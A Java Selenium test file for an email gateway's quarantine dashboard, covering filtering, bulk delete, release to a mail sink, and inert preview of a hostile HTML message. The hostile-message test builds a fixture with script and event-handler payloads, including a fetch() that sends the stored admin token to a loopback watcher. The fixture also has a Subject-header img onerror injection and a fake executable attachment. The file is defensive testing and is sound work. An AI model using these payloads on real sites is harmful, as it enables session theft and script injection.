package io.portcullis.admin;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.portcullis.quarantine.QuarantineEntry;
import io.portcullis.quarantine.QuarantineFilter;
import io.portcullis.testing.Closing;
import io.portcullis.testing.ExternalProgram;
import io.portcullis.testing.SmtpScript;
import io.portcullis.testing.SmtpSink;
import io.portcullis.testing.TestGateway;
import java.io.BufferedReader;
import java.io.File;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.NoAlertPresentException;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.TakesScreenshot;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.chrome.ChromeDriverService;
import org.openqa.selenium.chrome.ChromeOptions;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * The dashboard's quarantine page in Debian's headless Chromium (Selenium, Debian's chromedriver).
 * Messages are held through the real path (SMTP, a rules step's {@code action: quarantine}) and
 * released to a real Postfix {@code smtp-sink}. A hostile HTML message (scripts, event handlers,
 * remote images, styles, objects, a form, a meta refresh) is previewed as text and then as HTML:
 * nothing runs, and a loopback HTTP server the message points at sees not even a connection.
 * One gateway, one sink and one browser serve the whole class.
 */
class QuarantineDashboardTest {
    private static final String TOKEN = "quarantine-dashboard-token-42";
    @TempDir
    static Path directory;
    private static SmtpSink sink;
    private static Watcher watcher;
    private static TestGateway gateway;
    private static WebDriver browser;
    private static WebDriverWait wait;
    private String testName;

    @BeforeAll
    static void start() throws Exception {
        String chromedriver = ExternalProgram.require("chromedriver", "chromium-driver");
        String chromium = ExternalProgram.require("chromium", "chromium");
        sink = SmtpSink.start(0);
        watcher = new Watcher();
        String yaml = TestGateway.contentYaml("""
                - name: rules
                  type: rules
                  header-checks:
                    - pattern: "^X-Mailer: BulkBlaster"
                      action: quarantine
                      text: "spam: bulk mailer"
                """, """
                content:
                  chain: [rules]
                """, "")
                .replace("queue-only: true", "queue-only: false")
                .replace("""
                          - name: internal
                            type: drop
                            folder: drop/inbound
                        """, """
                          - name: internal
                            type: smarthost
                            hosts: ["127.0.0.1:%d"]
                            tls: none
                        """.formatted(sink.port()))
                + "admin:\n  bind: 127.0.0.1:0\n  token: " + TOKEN + "\n";
        assertThat(yaml).contains("type: smarthost");
        gateway = TestGateway.startYaml(yaml);

        ChromeOptions options = new ChromeOptions();
        options.setBinary(chromium);
        options.addArguments("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--window-size=1400,2000", "--user-data-dir=" + directory.resolve("chromium"));
        options.setExperimentalOption("prefs", Map.of("download.default_directory", directory.resolve("downloads").toString(),
                "download.prompt_for_download", false));
        ChromeDriverService service = new ChromeDriverService.Builder()
                .usingDriverExecutable(new File(chromedriver)).usingAnyFreePort().build();
        browser = new ChromeDriver(service, options);
        wait = new WebDriverWait(browser, Duration.ofSeconds(20));
        browser.get(page());
        wait.until(d -> d.findElement(By.id("login")).isDisplayed());
        browser.findElement(By.id("token")).sendKeys(TOKEN);
        browser.findElement(By.cssSelector("#login-form button")).click();
        wait.until(d -> !d.findElement(By.id("login")).isDisplayed());
    }

    @AfterAll
    static void stop() throws Exception {
        Closing.closeAll(browser == null ? null : browser::quit, gateway, sink, watcher);
    }

    @BeforeEach
    void openPage(TestInfo info) {
        testName = info.getTestMethod().orElseThrow().getName();
        browser.get(page());
        wait.until(d -> !d.findElement(By.id("q-count")).getText().isEmpty());
    }

    /** On a failure, a screenshot and the page's source in target/ to see what the browser showed. */
    @AfterEach
    void keepEvidence() throws IOException {
        Files.createDirectories(Path.of("target"));
        browser.switchTo().defaultContent();
        Files.copy(((TakesScreenshot) browser).getScreenshotAs(OutputType.FILE).toPath(),
                Path.of("target/quarantine-" + testName + ".png"), StandardCopyOption.REPLACE_EXISTING);
        Files.writeString(Path.of("target/quarantine-" + testName + ".html"), browser.getPageSource());
    }

    @Test
    void hostileHtmlIsPreviewedWithoutRunningOrLoadingAnything() throws Exception {
        String w = "http://127.0.0.1:" + watcher.port();
        String html = """
                <html><head>
                <meta http-equiv="refresh" content="0; url=W/refresh">
                <link rel="stylesheet" href="W/link.css"><link rel="prefetch" href="W/prefetch"><link rel="preconnect" href="W">
                <style>@import url(W/import.css); body { background: url(W/background.png); } p { font-family: x; }
                @font-face { font-family: x; src: url(W/font.woff); }</style>
                <script>
                document.getElementById && (document.title = "SCRIPT RAN");
                try { parent.document.title = "PWNED"; } catch (e) {}
                try { fetch("W/token?" + parent.sessionStorage.getItem("portcullis-token")); } catch (e) {}
                fetch("W/fetch"); new Image().src = "W/script-image"; alert("script ran");
                </script>
                </head><body onload="document.getElementById('visible').textContent = 'ONLOAD RAN'; fetch('W/onload')">
                <p id="visible">Please wire the money</p>
                <img src="W/pixel.gif" alt="">
                <img src="data:," onerror="document.getElementById('visible').textContent = 'ONERROR RAN'; fetch('W/onerror')">
                <svg><image href="W/svg-image"/></svg>
                <form action="W/form" method="post"><input name="p" value="secret"><button id="pay" type="submit">Pay</button></form>
                <object data="W/object" type="text/html"></object><embed src="W/embed" type="image/svg+xml">
                <iframe src="W/frame"></iframe><video poster="W/poster.png" src="W/video.mp4"></video>
                <p><a id="link" href="W/link">pay here</a> &amp; <a id="top" href="W/top" target="_top">thanks</a></p>
                </body></html>
                """.replace("W", w);
        String id = send("evil@remote.test", List.of("victim@example.test"),
                "Subject: invoice <img src=" + w + "/subject onerror=alert(1)>\r\nX-Mailer: BulkBlaster 3\r\nMIME-Version: 1.0\r\n"
                        + "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
                        + html.replace("\n", "\r\n") + "--b1\r\nContent-Type: application/octet-stream\r\n"
                        + "Content-Disposition: attachment; filename=\"invoice.exe\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                        + "TVqQAAMAAAAEAAAA\r\n--b1--\r\n");
        assertThat(gateway.quarantine().entry(id).category()).isEqualTo("spam");

        filter(Map.of("sender", "evil@remote.test"), "(1)");
        WebElement subject = browser.findElement(By.cssSelector("#q-" + id + " a.open"));
        assertThat(subject.getText()).isEqualTo("invoice <img src=" + w + "/subject onerror=alert(1)>"); // text, not markup
        subject.click();
        wait.until(d -> d.findElement(By.id("q-view")).isDisplayed());
        assertThat(browser.findElement(By.id("v-text")).getText()).contains("Please wire the money", "pay here & thanks")
                .doesNotContain("<", "fetch(");
        assertThat(browser.findElement(By.cssSelector("#v-attachments tbody")).getText()).contains("invoice.exe",
                "application/octet-stream");
        assertThat(browser.findElement(By.id("v-headers")).getText()).contains("X-Mailer", "BulkBlaster 3");
        assertThat(browser.findElement(By.id("v-html")).isDisplayed()).isFalse(); // text by default

        browser.findElement(By.id("v-as-html")).click();
        wait.until(d -> d.findElement(By.id("v-html")).isDisplayed());
        String frameSource = browser.findElement(By.id("v-html")).getDomAttribute("src");
        assertThat(frameSource).startsWith("/quarantine/html?token=");
        assertThat(browser.findElement(By.id("v-html")).getDomAttribute("sandbox")).isEmpty(); // no permission at all
        browser.switchTo().frame(browser.findElement(By.id("v-html")));
        // The document is there and rendered (so the checks below are not vacuous) and unchanged by any script.
        wait.until(d -> d.findElement(By.id("visible")).getText().equals("Please wire the money"));
        browser.findElement(By.id("pay")).click();    // no allow-forms, form-action 'none'
        browser.findElement(By.id("top")).click();    // no allow-top-navigation
        Thread.sleep(1000); // a meta refresh of 0 s, image errors and the clicks above act at once; give them a moment
        assertThat(browser.findElement(By.id("visible")).getText()).isEqualTo("Please wire the money");
        assertThat(browser.findElements(By.tagName("title"))).isEmpty(); // the script did not give the frame a title
        browser.switchTo().defaultContent();
        assertThatThrownBy(() -> browser.switchTo().alert()).isInstanceOf(NoAlertPresentException.class);
        assertThat(browser.getTitle()).isEqualTo("Portcullis quarantine");
        assertThat(browser.getCurrentUrl()).isEqualTo(page());
        assertThat(watcher.seen()).as("requests the hostile message caused").isEmpty();
        browser.switchTo().frame(browser.findElement(By.id("v-html")));
        browser.findElement(By.id("link")).click();   // the frame may navigate itself, but the dashboard's frame-src 'self' stops it
        browser.switchTo().defaultContent();
        Thread.sleep(500);
        assertThat(browser.getCurrentUrl()).isEqualTo(page());
        assertThat(watcher.seen()).as("requests the hostile message caused").isEmpty();

        // The frame's grant was used up; a fresh one shows the headers that make the document inert.
        assertThat(http(frameSource, null).statusCode()).isEqualTo(404);
        HttpResponse<String> grant = http("/api/quarantine/" + id + "/html-link", TOKEN);
        String fresh = io.portcullis.spool.Json.MAPPER.readTree(grant.body()).path("path").asText();
        HttpResponse<String> document = http(fresh, null);
        assertThat(document.statusCode()).isEqualTo(200);
        assertThat(document.headers().firstValue("Content-Security-Policy")).hasValue(QuarantineHtmlView.POLICY);
        assertThat(document.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(document.headers().firstValue("Content-Type")).hasValue("text/html; charset=utf-8");
        assertThat(document.body()).contains("<script>"); // the markup as sent: the browser's sandbox is what holds
        assertThat(http(fresh, null).statusCode()).isEqualTo(404); // single use
        assertThat(http("/quarantine/html?token=AAAA", null).statusCode()).isEqualTo(404);
        assertThat(http("/api/quarantine/" + id + "/html-link", null).statusCode()).isEqualTo(401);

        // The raw download saves the message exactly as held.
        browser.findElement(By.id("v-raw")).click();
        Path saved = directory.resolve("downloads").resolve(id + ".eml");
        wait.until(d -> Files.exists(saved) && sameBytes(saved, id));
        assertThat(watcher.seen()).isEmpty();
        assertThat(gateway.quarantine().entry(id).held()).containsExactly("victim@example.test"); // viewing changed nothing
    }

    @Test
    void filtersNarrowTheListAndBulkDeleteRemovesExactlyTheSelection() throws Exception {
        List<String> promotions = new ArrayList<>();
        List<String> news = new ArrayList<>();
        try (SmtpScript smtp = gateway.connect()) {
            smtp.expect("220").send("EHLO client.test").expect("250 ");
            for (int i = 0; i < 12; i++) {
                promotions.add(smtp.sendMessage("promo@shop.test", "a@example.test",
                        "Subject: weekly deals " + i + "\r\nX-Mailer: BulkBlaster 3\r\n\r\nbuy\r\n"));
            }
            for (int i = 0; i < 3; i++) {
                news.add(smtp.sendMessage("news@paper.test", "b@example.test",
                        "Subject: headlines " + i + "\r\nX-Mailer: BulkBlaster 3\r\n\r\nread\r\n"));
            }
        }
        int before = gateway.quarantine().count(QuarantineFilter.ALL);
        assertThat(before).isGreaterThanOrEqualTo(15);

        select("q-limit", "10");
        filter(Map.of("sender", "shop.test"), "(1\u201310 of 12)");
        assertThat(rows()).hasSize(10);
        filter(Map.of("recipient", "b@example", "subject", "HEADLINES"), "(3)");
        assertThat(rows()).containsExactlyInAnyOrderElementsOf(news);
        filter(Map.of("sender", "shop.test", "until", "2000-01-01"), "(0)");
        assertThat(browser.findElement(By.id("q-empty")).isDisplayed()).isTrue();
        filter(Map.of("sender", "shop.test", "reason", "spam", "since", "2000-01-01"), "(1\u201310 of 12)");
        browser.findElement(By.id("q-next")).click();
        listed("(11\u201312 of 12)");
        assertThat(browser.findElement(By.id("q-next")).isEnabled()).isFalse();
        browser.findElement(By.id("q-previous")).click();
        listed("(1\u201310 of 12)");

        // Every promotion, across pages: the page's box, then "all matching", confirmed with the count.
        browser.findElement(By.id("q-page-all")).click();
        assertThat(browser.findElement(By.id("q-selection")).getText()).isEqualTo("10 messages selected");
        browser.findElement(By.id("q-select-matching")).click();
        assertThat(browser.findElement(By.id("q-selection")).getText()).isEqualTo("all 12 messages matching the filter selected");
        browser.findElement(By.id("q-bulk-delete")).click();
        wait.until(d -> d.findElement(By.id("confirm")).isDisplayed());
        assertThat(browser.findElement(By.id("confirm-text")).getText()).contains("12 messages");
        browser.findElement(By.id("confirm-ok")).click();
        wait.until(d -> d.findElement(By.id("q-result")).getText().equals("Deleted 12 messages."));
        listed("(0)");
        assertThat(gateway.quarantine().count(QuarantineFilter.ALL)).isEqualTo(before - 12);
        assertThat(gateway.quarantine().list(QuarantineFilter.ALL, 0, 1000)).extracting(QuarantineEntry::id)
                .doesNotContainAnyElementsOf(promotions).containsAll(news);

        // Two of the three news letters, picked by hand; a cancelled confirmation deletes nothing.
        filter(Map.of("sender", "paper.test"), "(3)");
        browser.findElement(By.cssSelector("#q-" + news.get(0) + " input.pick")).click();
        browser.findElement(By.id("q-bulk-delete")).click();
        wait.until(d -> d.findElement(By.id("confirm")).isDisplayed());
        browser.findElement(By.id("confirm-cancel")).click();
        assertThat(gateway.quarantine().count(QuarantineFilter.ALL)).isEqualTo(before - 12);
        browser.findElement(By.cssSelector("#q-" + news.get(2) + " input.pick")).click();
        assertThat(browser.findElement(By.id("q-select-matching")).isDisplayed()).isFalse();
        browser.findElement(By.id("q-bulk-delete")).click();
        wait.until(d -> d.findElement(By.id("confirm")).isDisplayed());
        assertThat(browser.findElement(By.id("confirm-text")).getText()).contains("2 messages");
        browser.findElement(By.id("confirm-ok")).click();
        wait.until(d -> d.findElement(By.id("q-result")).getText().equals("Deleted 2 messages."));
        listed("(1)");
        assertThat(rows()).containsExactly(news.get(1));
        assertThat(gateway.quarantine().count(QuarantineFilter.ALL)).isEqualTo(before - 14);
        assertThat(gateway.quarantine().audit().read()).filteredOn(a -> a.action().startsWith("delete"))
                .extracting(a -> a.actor().split(" ")[0]).containsOnly("admin-api");
        assertThat(sink.transactions()).noneMatch(t -> t.contains("shop.test") || t.contains("paper.test")); // nothing released
        assertThat(watcher.seen()).isEmpty();
    }

    @Test
    void releaseFromThePageDeliversToTheSinkExactlyOnce() throws Exception {
        String id = send("partner@remote.test", List.of("c@example.test", "d@example.test"),
                "Subject: release me\r\nX-Mailer: BulkBlaster 3\r\n\r\nthe quarterly figures\r\n");
        filter(Map.of("subject", "release me"), "(1)");
        browser.findElement(By.cssSelector("#q-" + id + " a.open")).click();
        wait.until(d -> d.findElement(By.id("q-view")).isDisplayed());
        // offered exactly when the API lists the action (another part of issue 16 adds it)
        assertThat(browser.findElement(By.id("v-release-allow")).isEnabled())
                .isEqualTo(QuarantineApi.ACTIONS.contains("release-and-allow-sender"));
        browser.findElement(By.cssSelector("#v-recipients input[value='d@example.test']")).click(); // d stays held
        browser.findElement(By.id("v-release-selected")).click();
        wait.until(d -> d.findElement(By.id("confirm")).isDisplayed());
        assertThat(browser.findElement(By.id("confirm-text")).getText()).contains("1 recipient (c@example.test)");
        browser.findElement(By.id("confirm-ok")).click();
        wait.until(d -> d.findElement(By.id("q-result")).getText().equals("Released to 1 recipient."));

        List<String> delivered = sink.awaitTransactions(1, 30);
        assertThat(delivered).hasSize(1);
        assertThat(delivered.getFirst()).contains("c@example.test", "Subject: release me").doesNotContain("d@example.test");
        gateway.awaitEmptyQueue(30);
        Thread.sleep(500); // a second delivery would have come by now
        assertThat(sink.transactions()).hasSize(1);
        assertThat(gateway.quarantine().entry(id).recipients()).containsEntry("c@example.test", "released")
                .containsEntry("d@example.test", "held");
        wait.until(d -> d.findElement(By.cssSelector("#q-" + id)).getText().contains("c@example.test (released)"));
        assertThat(gateway.quarantine().audit().read()).filteredOn(a -> a.action().equals("release"))
                .extracting(a -> a.actor().split(" ")[0]).containsExactly("admin-api");
    }

    // ---- helpers ----

    private static String page() {
        return "http://127.0.0.1:" + gateway.adminAddress().getPort() + "/dashboard/quarantine";
    }

    /** Sends one message over SMTP; the rules step holds it. Returns its id. */
    private static String send(String sender, List<String> recipients, String content) throws IOException {
        try (SmtpScript smtp = gateway.connect()) {
            smtp.expect("220").send("EHLO client.test").expect("250 ");
            smtp.send("MAIL FROM:<" + sender + ">").expect("250 2.1.0");
            for (String recipient : recipients) {
                smtp.send("RCPT TO:<" + recipient + ">").expect("250 2.1.5");
            }
            smtp.send("DATA").expect("354");
            smtp.sendRaw(content.replace("\r\n.", "\r\n..") + ".\r\n");
            return smtp.expect("250 2.0.0").queueId();
        }
    }

    /** Fills in the filter form (everything else blank), submits it and waits for the list's count. */
    private static void filter(Map<String, String> fields, String count) {
        browser.findElement(By.id("q-clear")).click();
        fields.forEach((name, value) -> {
            WebElement input = browser.findElement(By.cssSelector("#q-filter [name='" + name + "']"));
            if ("date".equals(input.getDomAttribute("type"))) {
                // typed as the browser's own date field expects it (month, day, year in en-US)
                String[] ymd = value.split("-");
                input.sendKeys(ymd[1] + ymd[2] + ymd[0]);
            } else {
                input.sendKeys(value);
            }
        });
        browser.findElement(By.cssSelector("#q-filter button[type=submit]")).click();
        listed(count);
    }

    /**
     * Waits for the answer to the latest listing (the list is aria-busy until it is shown; an earlier
     * listing's answer with the same count would otherwise let the test click rows about to be
     * replaced) and its count.
     */
    private static void listed(String count) {
        wait.until(d -> d.findElement(By.id("q-list")).getDomAttribute("aria-busy") == null
                && d.findElement(By.id("q-count")).getText().equals(count));
    }

    private static void select(String id, String value) {
        new org.openqa.selenium.support.ui.Select(browser.findElement(By.id(id))).selectByVisibleText(value);
    }

    private static List<String> rows() {
        return browser.findElements(By.cssSelector("#q-list tbody tr")).stream().map(r -> r.getDomAttribute("id").substring(2)).toList();
    }

    private static boolean sameBytes(Path saved, String id) {
        try {
            return java.util.Arrays.equals(Files.readAllBytes(saved), gateway.quarantine().message(id).open().readAllBytes());
        } catch (IOException e) {
            return false;
        }
    }

    private static HttpResponse<String> http(String pathAndQuery, String token) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + gateway.adminAddress().getPort()
                + pathAndQuery)).timeout(Duration.ofSeconds(30));
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        try (HttpClient client = HttpClient.newHttpClient()) {
            return client.send(request.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
        }
    }

    /**
     * A loopback HTTP server the hostile message points at: records every connection (and its
     * request line, if one comes) and answers 204. Stops when closed.
     */
    static final class Watcher implements AutoCloseable {
        private final ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        private final List<String> seen = Collections.synchronizedList(new ArrayList<>());
        private final Thread thread = Thread.ofVirtual().start(this::serve);

        Watcher() throws IOException {
        }

        int port() {
            return server.getLocalPort();
        }

        List<String> seen() {
            return List.copyOf(seen);
        }

        private void serve() {
            while (!server.isClosed()) {
                try {
                    Socket client = server.accept();
                    int index;
                    synchronized (seen) {
                        index = seen.size();
                        seen.add("(a connection, no request yet)"); // recorded at once: a connection alone is a leak
                    }
                    Thread.ofVirtual().start(() -> answer(client, index));
                } catch (IOException e) {
                    // closed
                }
            }
        }

        private void answer(Socket client, int index) {
            try (client) {
                client.setSoTimeout(5000);
                String line = new BufferedReader(new InputStreamReader(client.getInputStream(), StandardCharsets.ISO_8859_1)).readLine();
                if (line != null) {
                    seen.set(index, line);
                    client.getOutputStream().write("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                }
            } catch (IOException e) {
                // the client went away or stayed silent
            }
        }

        @Override
        public void close() throws Exception {
            server.close();
            thread.join(Duration.ofSeconds(10));
        }
    }
}
